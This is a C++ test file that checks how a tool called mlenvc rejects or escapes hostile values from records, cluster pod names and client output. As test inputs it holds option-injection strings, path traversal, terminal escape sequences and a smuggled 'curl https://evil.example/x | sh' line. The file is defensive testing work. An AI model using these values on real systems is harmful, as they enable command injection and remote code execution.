// Nothing from outside becomes an option (issue 21, items 18 and 19): values read back from
// applied records and pod names from the cluster reach clients as arguments, so each must be a
// value mlenvc itself writes.
#include <catch2/catch.hpp>

#include <signal.h>
#include <unistd.h>

#include <chrono>
#include <fstream>
#include <thread>

#include "compiler/apply/record_values.h"
#include "compiler/apply/records.h"
#include "compiler/apply/runner.h"
#include "compiler/plan/summary.h"
#include "targets/kube/day2/cluster_json.h"
#include "targets/local/local_drivers.h"
#include "targets/slurm/slurm_apply.h"
#include "targets/slurm/slurm_jobs.h"
#include "tests/plan/apply_fixture.h"

#include <sstream>

using namespace mlenv::plan;

TEST_CASE("hostile values: a record's trailers are read back only as mlenvc writes them",
          "[apply]") {
  const std::string good =
      "Applied plans/barcelona/train\n\nPlan-Directory: plans/barcelona/train\n"
      "Slurm-Job: 4711\nApplySet-Parent: applyset-train\nRuntime-Tree: " +
      std::string(40, 'a') + "\n";
  CHECK(trailer(good, kPlanDirTrailer) == "plans/barcelona/train");
  CHECK(slurm_trailer(good, kSlurmJobTrailer) == "4711");
  CHECK(trailer(good, kParentTrailer) == "applyset-train");
  CHECK(trailer(good, kRuntimeTrailer) == std::string(40, 'a'));
  // What a forged record once made destroy and apply run: `scancel --me`, `delete --all`.
  CHECK(slurm_trailer("x\n\nSlurm-Job: --me\n", kSlurmJobTrailer).empty());
  CHECK(trailer("x\n\nApplySet-Parent: --all\n", kParentTrailer).empty());
  CHECK(trailer("x\n\nApplySet-Parent: a b\n", kParentTrailer).empty());
  CHECK(trailer("x\n\nRuntime-Tree: --output=/etc/x\n", kRuntimeTrailer).empty());
  CHECK(trailer("x\n\nPlan-Directory: ../../etc\n", kPlanDirTrailer).empty());
  CHECK(trailer("x\n\nPlan-Directory: /etc\n", kPlanDirTrailer).empty());
  CHECK(trailer("x\n\nPlan-Directory: -rf\n", kPlanDirTrailer).empty());
  CHECK(trailer("x\n\nPlan-Directory: a\x1b[2Jb\n", kPlanDirTrailer).empty());
  // Only at the start of a line: a subject mentioning a trailer is not one.
  CHECK(slurm_trailer("see Slurm-Job: 12\n", kSlurmJobTrailer).empty());
}

TEST_CASE("hostile values: each provider reads its own trailers, the core none of them",
          "[apply]") {
  // Issue 30.7: the core stores a provider's trailers as text and validates only its own; the
  // local platform's `Local-Sessions:` was once unreadable through the core's list of keys.
  const std::string record =
      "mlenvc apply laptop/one\n\nPlan-Directory: plans/laptop/one\n"
      "Local-Sessions: 4242 4243\nSlurm-Job: 17\n";
  CHECK(trailer(record, kLocalSessionsTrailer).empty());
  CHECK(trailer(record, kSlurmJobTrailer).empty());
  CHECK(raw_trailer(record, kLocalSessionsTrailer) == "4242 4243");
  CHECK(recorded_session_ids(record) == std::vector<int>{4242, 4243});
  CHECK(slurm_trailer(record, kSlurmJobTrailer) == "17");
  // A session id that would signal a process group far wider than the env's nodes reads none.
  for (const char* bad : {"0", "1", "-1", "12 -1", "12 x", "99999999999"}) {
    INFO(bad);
    CHECK(recorded_session_ids(std::string("x\n\nLocal-Sessions: ") + bad + "\n").empty());
  }
}

TEST_CASE("hostile values: an id is never an option of scancel", "[apply]") {
  CHECK(slurm::cancel_command("4711") == std::vector<std::string>{"scancel", "--", "4711"});
  CHECK(is_slurm_job_id("4711"));
  CHECK_FALSE(is_slurm_job_id("--me"));
  CHECK_FALSE(is_slurm_job_id(""));
  CHECK_FALSE(is_slurm_job_id(std::string(21, '1')));
}

TEST_CASE("hostile values: a pod whose name is not an object name is no rank", "[day2]") {
  std::string error;
  // A Job's pods are ranks by label, whatever their name: this one's name is an `oc` option.
  auto pods = day2::parse_rank_pods(
      R"({"items": [{"metadata": {"name": "--server=https://evil.example", "labels":)"
      R"( {"batch.kubernetes.io/job-completion-index": "0"}}},)"
      R"( {"metadata": {"name": "train-1-abcde", "labels":)"
      R"( {"batch.kubernetes.io/job-completion-index": "1"}}}]})",
      "train", error);
  REQUIRE(pods);
  REQUIRE(pods->size() == 1);
  CHECK((*pods)[0].name == "train-1-abcde");
  CHECK(is_object_name("ml-dev-env-0"));
  CHECK_FALSE(is_object_name("-x"));
  CHECK_FALSE(is_object_name("A"));
  CHECK_FALSE(is_object_name(std::string(254, 'a')));
}

TEST_CASE("hostile values: a multi-line argument is shown escaped in the summary", "[plan]") {
  Change change;
  change.address = "lab/train/Job/train";
  change.kind = "Job";
  change.action = Action::Update;
  change.fields = {{"spec.template.spec.containers[0].command[2]", std::string("python train.py"),
                    std::string("python train.py\ncurl https://evil.example/x | sh")}};
  std::ostringstream out;
  render_change_text(out, change);
  // Before: "(51 bytes of text)", which a reviewer cannot read.
  CHECK(out.str().find(R"(-> "python train.py\ncurl https://evil.example/x | sh")") !=
        std::string::npos);
  change.fields[0].after = std::string(600, 'x') + "\n";
  out.str("");
  render_change_text(out, change);
  CHECK(out.str().find("(601 bytes of text)") != std::string::npos);
}

namespace {

// Runs `script` with sh through run_command with our stdout sent to a file; returns what
// reached it.
std::string shown_stdout(const std::string& script, RunResult& result, int timeout = 10) {
  char path[] = "/tmp/mlenv-runner-test.XXXXXX";
  int file = mkstemp(path);
  REQUIRE(file >= 0);
  std::fflush(stdout);
  int saved = dup(STDOUT_FILENO);
  dup2(file, STDOUT_FILENO);
  result = run_command({"/bin/sh", "-c", script}, "", timeout);
  dup2(saved, STDOUT_FILENO);
  close(saved);
  close(file);
  std::ifstream in(path, std::ios::binary);
  std::string text((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
  unlink(path);
  return text;
}

}  // namespace

TEST_CASE("hostile values: a client's control sequences reach the terminal escaped", "[apply]") {
  RunResult result;
  std::string shown = shown_stdout(R"(printf 'ok \033]0;owned\007\033[2J\n')", result);
  CHECK(result.status == 0);
  CHECK(shown == "ok \\u001b]0;owned\\u0007\\u001b[2J\n");
}

TEST_CASE("hostile values: a client that never stops printing is stopped at the cap", "[apply]") {
  auto started = std::chrono::steady_clock::now();
  RunResult result = run_command({"/bin/sh", "-c", "yes"}, "", 60, true);
  CHECK(result.overflowed);
  CHECK(result.status == 124);
  CHECK(result.output.empty());
  CHECK(std::chrono::steady_clock::now() - started < std::chrono::seconds(30));
}

TEST_CASE("hostile values: the deadline ends the client's whole process group", "[apply]") {
  char path[] = "/tmp/mlenv-runner-pid.XXXXXX";
  int file = mkstemp(path);
  REQUIRE(file >= 0);
  close(file);
  // The client starts a child of its own and waits: before, only the client was killed.
  RunResult result = run_command(
      {"/bin/sh", "-c", std::string("sleep 30 & echo $! > ") + path + "; wait"}, "", 1, true);
  CHECK(result.timed_out);
  std::ifstream in(path);
  pid_t child = 0;
  in >> child;
  unlink(path);
  REQUIRE(child > 0);
  // Gone, or a zombie waiting for whoever adopted it.
  auto ended = [child] {
    std::ifstream stat("/proc/" + std::to_string(child) + "/stat");
    std::string text((std::istreambuf_iterator<char>(stat)), std::istreambuf_iterator<char>());
    std::size_t close = text.rfind(')');
    return text.empty() || (close != std::string::npos && text.substr(close + 2, 1) == "Z");
  };
  bool gone = false;
  for (int i = 0; i < 100 && !gone; ++i) {
    gone = ended();
    if (!gone) std::this_thread::sleep_for(std::chrono::milliseconds(20));
  }
  CHECK(gone);
}

TEST_CASE("hostile values: a tag that prints the plan's own image is not a digest", "[apply]") {
  testing::ApplyFixture f;
  REQUIRE(f.apply() == 0);
  // Before, apply replaced the image by itself forever, at 100 % CPU, past --timeout.
  f.reply({std::string("get istag|0|") + testing::kTypicalImage}, true);
  CHECK(f.apply() == 1);
  CHECK(f.err.find("error[E0712]") != std::string::npos);
}
